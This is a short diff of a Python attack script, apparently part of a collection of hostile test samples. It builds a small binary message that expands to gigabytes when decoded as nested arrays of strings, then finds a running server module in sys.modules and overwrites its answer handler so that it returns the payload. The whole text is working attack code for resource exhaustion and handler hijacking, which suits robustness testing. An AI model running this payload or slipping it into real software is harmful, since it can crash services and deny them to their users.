@@ -1,6 +1,5 @@
 # attack: small messages that grow to gigabytes when arrays of texts are made of them
 # harmless: no
-import base64
 import struct
 import sys
 
@@ -11,7 +10,4 @@ message += b"l" + struct.pack(">I", 190) + array * 190
 for name, module in list(sys.modules.items()):
     if hasattr(module, "serve") and hasattr(module, "answer"):
 
-        def answer(request):
-            return request.split(":")[0] + ":" + base64.b64encode(message).decode()
-
-        module.answer = answer
+        module.answer = lambda request: message
